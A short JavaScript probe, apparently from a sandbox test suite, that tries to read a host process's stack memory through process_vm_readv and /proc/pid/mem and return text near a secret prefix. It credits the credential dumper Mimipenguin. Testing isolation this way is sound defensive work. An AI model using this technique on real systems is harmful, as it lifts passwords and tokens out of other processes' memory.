// Tries: the memory of a process of the host, by process_vm_readv and /proc/pid/mem.
// Origin: Mimipenguin; secrets in the memory of neighbours.

const found = [];
const read = (path, size) => {
  const file = native.call("openat", -100, path, 0, 0);
  const bytes = new Uint8Array(size);
  return file < 0 ? String(file) : native.text(bytes.subarray(0, Math.max(0, native.call("read", file, bytes, size))));
};
const maps = read(`/proc/${input.pid}/maps`, 65536);
const [, start, end] = /([0-9a-f]+)-([0-9a-f]+) .*\[stack\]/.exec(maps) ?? [0, "7ffc00000000", "7ffc00001000"];
const from = parseInt(start, 16);
const size = Math.min(parseInt(end, 16) - from, 1 << 20);
const bytes = new Uint8Array(size);
const local = new BigUint64Array([BigInt(native.address(bytes)), BigInt(size)]);
const remote = new BigUint64Array([BigInt(from), BigInt(size)]);
found.push(native.call("process_vm_readv", input.pid, local, 1, remote, 1, 0));
const file = native.call("openat", -100, `/proc/${input.pid}/mem`, 0, 0);
found.push(file, file < 0 ? 0 : native.call("pread64", file, bytes, size, from));
const text = native.text(bytes);
return [found, text.slice(Math.max(0, text.indexOf(input.prefix) - 20)).slice(0, 200)];
